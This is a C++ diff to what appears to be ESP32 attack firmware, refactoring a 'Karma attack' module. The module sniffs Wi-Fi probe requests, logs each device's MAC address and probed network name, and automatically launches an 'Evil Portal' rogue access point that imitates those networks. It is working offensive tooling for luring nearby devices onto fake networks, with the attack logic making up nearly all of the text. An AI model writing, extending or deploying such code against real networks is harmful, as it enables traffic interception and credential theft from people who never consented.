@@ -1,4 +1,6 @@
 #include "modules/wifi_module.h"
+#include "utils/dot11.h"
+#include "utils/string_utils.h"
 #include <esp_wifi.h>
 #include <Arduino.h>
 #include <set>
@@ -12,111 +14,67 @@ static bool g_karmaActive = false;
 static std::vector<std::string> g_karmaSSIDs;
 static std::set<std::string> g_seenProbes;
 static WiFiModule* g_karmaWiFiModule = nullptr;
+static int g_karmaSubscription = -1;
 
-// Probe request structure
-struct ProbeRequest {
-    std::string mac;
-    std::string ssid;
-    int8_t rssi;
-    uint8_t channel;
-};
-
-// Check if packet is a probe request with SSID
-static bool isProbeRequestWithSSID(const uint8_t* frame, size_t len) {
-    if (len < 24) return false;
-    
-    uint8_t frameType = (frame[0] & 0x0C) >> 2;
-    uint8_t frameSubType = (frame[0] & 0xF0) >> 4;
-    
-    if (frameType == 0x00 && frameSubType == 0x04) { // Probe request
-        size_t pos = 24;
-        while (pos < len - 2) {
-            uint8_t tag = frame[pos];
-            uint8_t tagLen = frame[pos + 1];
-            
-            if (tag == 0x00 && tagLen > 0) return true; // SSID tag found
-            pos += tagLen + 2;
+// Printable part of a probed SSID; SSIDs are at most 32 bytes, so this never allocates
+static size_t printableSSID(const Utils::Dot11::Span& ssid, char* out) {
+    size_t length = 0;
+    for (size_t i = 0; i < ssid.length; ++i) {
+        char c = ssid.data[i];
+        if (c >= 32 && c < 127) {
+            out[length++] = c;
         }
     }
-    return false;
-}
-
-// Extract SSID from probe request
-static std::string extractSSID(const uint8_t* frame, size_t len) {
-    size_t pos = 24;
-    while (pos < len - 2) {
-        uint8_t tag = frame[pos];
-        uint8_t tagLen = frame[pos + 1];
-        
-        if (tag == 0x00 && tagLen > 0) { // SSID tag
-            std::string ssid;
-            ssid.reserve(tagLen);
-            for (uint8_t i = 0; i < tagLen; ++i) {
-                char c = frame[pos + 2 + i];
-                if (c >= 32 && c < 127) { // Printable ASCII
-                    ssid += c;
-                }
-            }
-            return ssid;
-        }
-        pos += tagLen + 2;
-    }
-    return "";
-}
-
-// Extract MAC from probe request
-static std::string extractMAC(const uint8_t* frame) {
-    char mac[18];
-    snprintf(mac, sizeof(mac), "%02X:%02X:%02X:%02X:%02X:%02X",
-             frame[10], frame[11], frame[12], frame[13], frame[14], frame[15]);
-    return std::string(mac);
+    out[length] = '\0';
+    return length;
 }
 
-// Karma sniffer callback
-static void karmaSnifferCallback(void* buf, wifi_promiscuous_pkt_type_t type) {
+// Karma sniffer subscriber (probe requests only)
+static void karmaSnifferCallback(const WiFiModule::SnifferPacket& packet) {
     if (!g_karmaActive || !g_karmaWiFiModule) return;
     
-    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
-    const uint8_t* frame = pkt->payload;
-    size_t len = pkt->rx_ctrl.sig_len;
+    auto frame = Utils::Dot11::Frame::fromSniffer(packet.data, packet.length);
+    Utils::Dot11::Span probed;
+    const uint8_t* transmitter = frame.addr2();
+    if (!frame.is(Utils::Dot11::TYPE_MGMT, Utils::Dot11::PROBE_REQ) || !transmitter ||
+        !frame.ssid(probed) || probed.empty()) {
+        return;
+    }
+    
+    char ssidBuffer[Utils::Dot11::MAX_SSID_LENGTH + 1];
+    if (printableSSID(probed, ssidBuffer) == 0) return;
+    
+    std::string ssid(ssidBuffer);
+    std::string mac = Utils::macToString(transmitter);
+    std::string probeKey = mac + ":" + ssid;
+    
+    // Check if we've seen this probe before
+    if (g_seenProbes.find(probeKey) != g_seenProbes.end()) return;
+    g_seenProbes.insert(probeKey);
     
-    if (isProbeRequestWithSSID(frame, len)) {
-        std::string ssid = extractSSID(frame, len);
-        std::string mac = extractMAC(frame);
-        
-        if (!ssid.empty()) {
-            std::string probeKey = mac + ":" + ssid;
-            
-            // Check if we've seen this probe before
-            if (g_seenProbes.find(probeKey) == g_seenProbes.end()) {
-                g_seenProbes.insert(probeKey);
-                
-                Serial.printf("[Karma] Probe: %s from %s (RSSI: %d)\n",
-                             ssid.c_str(), mac.c_str(), pkt->rx_ctrl.rssi);
-                
-                // Check if SSID is in our list or if we should create portal for any SSID
-                bool shouldCreate = false;
-                if (g_karmaSSIDs.empty()) {
-                    // Create portal for any SSID
-                    shouldCreate = true;
-                } else {
-                    // Check if SSID is in our target list
-                    for (const auto& target : g_karmaSSIDs) {
-                        if (ssid == target) {
-                            shouldCreate = true;
-                            break;
-                        }
-                    }
-                }
-                
-                if (shouldCreate) {
-                    // Start Evil Portal with this SSID
-                    Serial.printf("[Karma] Creating Evil Portal: %s\n", ssid.c_str());
-                    g_karmaWiFiModule->startEvilPortal(ssid);
-                }
+    Serial.printf("[Karma] Probe: %s from %s (RSSI: %d)\n",
+                 ssid.c_str(), mac.c_str(), packet.rssi);
+    
+    // Check if SSID is in our list or if we should create portal for any SSID
+    bool shouldCreate = false;
+    if (g_karmaSSIDs.empty()) {
+        // Create portal for any SSID
+        shouldCreate = true;
+    } else {
+        // Check if SSID is in our target list
+        for (const auto& target : g_karmaSSIDs) {
+            if (ssid == target) {
+                shouldCreate = true;
+                break;
             }
         }
     }
+    
+    if (shouldCreate) {
+        // Start Evil Portal with this SSID
+        Serial.printf("[Karma] Creating Evil Portal: %s\n", ssid.c_str());
+        g_karmaWiFiModule->startEvilPortal(ssid);
+    }
 }
 
 Core::Error WiFiModule::startKarmaAttack(const std::vector<std::string>& ssids) {
@@ -132,10 +90,14 @@ Core::Error WiFiModule::startKarmaAttack(const std::vector<std::string>& ssids)
     g_karmaWiFiModule = this;
     g_seenProbes.clear();
     
-    // Start promiscuous mode to capture probe requests
-    WiFi.mode(WIFI_STA);
-    esp_wifi_set_promiscuous(true);
-    esp_wifi_set_promiscuous_rx_cb(karmaSnifferCallback);
+    // Probe requests come from the shared promiscuous session; everything else
+    // is dropped by the filter before the callback
+    FrameFilter probes;
+    FrameFilter::compile("type mgt and subtype probe-req", probes);
+    g_karmaSubscription = subscribeSniffer(karmaSnifferCallback, probes);
+    if (g_karmaSubscription < 0) {
+        return Core::Error(Core::ErrorCode::OPERATION_FAILED, "No free sniffer slot");
+    }
     
     g_karmaActive = true;
     Serial.println("[Karma] Attack started");
@@ -148,7 +110,8 @@ Core::Error WiFiModule::stopKarmaAttack() {
         return Core::Error(Core::ErrorCode::SUCCESS);
     }
     
-    esp_wifi_set_promiscuous(false);
+    unsubscribeSniffer(g_karmaSubscription);
+    g_karmaSubscription = -1;
     g_karmaActive = false;
     g_karmaWiFiModule = nullptr;
     g_seenProbes.clear();